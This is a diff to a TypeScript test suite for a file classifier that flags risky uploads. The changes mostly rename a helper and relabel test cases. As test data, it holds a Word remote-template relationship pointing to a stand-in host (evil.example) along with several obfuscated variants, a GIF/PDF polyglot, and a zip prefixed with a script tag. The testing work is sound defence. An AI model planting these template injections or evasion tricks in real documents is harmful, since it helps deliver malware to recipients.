@@ -14,8 +14,8 @@ const TEMPLATE =
   'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
 const FETCHED = `<Relationship Type="${TEMPLATE}" Target="https://evil.example/t.dotm" TargetMode="External"/>`
 
-/** An archive shifted by a prefix, which its directory does not mention. */
-function behind(prefix: Buffer, archive: Buffer): Buffer {
+/** An archive after other bytes, which its directory does not account for. */
+function withPrefix(prefix: Buffer, archive: Buffer): Buffer {
   const moved = Buffer.concat([prefix, archive])
   const end = moved.length - 22
   const start = moved.readUInt32LE(end + 16) + prefix.length
@@ -43,7 +43,7 @@ describe('the kind of a file', () => {
     ['a program', 'MZ\u0090\u0000'],
     ['an old Word file', '\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1'],
     ['text', 'Ana Núñez, technician'],
-    ['a PDF behind other bytes', `GIF89a${aPdf().toString('latin1')}`],
+    ['a PDF after other bytes', `GIF89a${aPdf().toString('latin1')}`],
   ])('is none for %s', (_name, text) => {
     expect(kindOf(Buffer.from(text, 'latin1'))).toBe('other')
   })
@@ -68,12 +68,15 @@ describe('the kind of a file', () => {
   it.each([
     ['plainly', FETCHED],
     ['in single quotes', FETCHED.replaceAll('"', "'")],
-    ['behind spaces', FETCHED.replaceAll('=', ' = ')],
-    ['of a share', FETCHED.replace('https:', 'file:')],
-    ['in numbers', FETCHED.replace('attached', '&#97;tt&#x61;ched')],
-    ['beside one of its own', FETCHED.replace(' Target=', ' x="a" Target="/word/t.dotx" Target=')],
-    ['behind a link to a page', `<Relationship Target="https://cv.example"/>${FETCHED}`],
-    ['in two bytes a letter', Buffer.from(FETCHED, 'utf16le').toString('latin1')],
+    ['with spaces around the equals signs', FETCHED.replaceAll('=', ' = ')],
+    ['on a network share', FETCHED.replace('https:', 'file:')],
+    ['with character references', FETCHED.replace('attached', '&#97;tt&#x61;ched')],
+    [
+      'beside a local template',
+      FETCHED.replace(' Target=', ' x="a" Target="/word/t.dotx" Target='),
+    ],
+    ['after a link to a page', `<Relationship Target="https://cv.example"/>${FETCHED}`],
+    ['in UTF-16', Buffer.from(FETCHED, 'utf16le').toString('latin1')],
   ])('a remote template named %s makes it active', (_name, links) => {
     expect(kindOf(aDocx({ 'word/_rels/settings.xml.rels': links }))).toBe('active')
     expect(kindOf(aDocx({ 'word/_rels/Settings2.xml.rels': links }))).toBe('active')
@@ -123,8 +126,8 @@ describe('the kind of a file', () => {
   })
 
   it('is rejected with data before the archive, or with a duplicate name', () => {
-    expect(kindOf(behind(Buffer.alloc(0), aDocx()))).toBe('docx')
-    expect(kindOf(behind(Buffer.from('PK<script>alert(1)</script>'), aDocx()))).toBe('broken')
+    expect(kindOf(withPrefix(Buffer.alloc(0), aDocx()))).toBe('docx')
+    expect(kindOf(withPrefix(Buffer.from('PK<script>alert(1)</script>'), aDocx()))).toBe('broken')
     expect(kindOf(aDocx({ 'word/DOCUMENT.xml': '<x/>' }))).toBe('broken')
   })
 
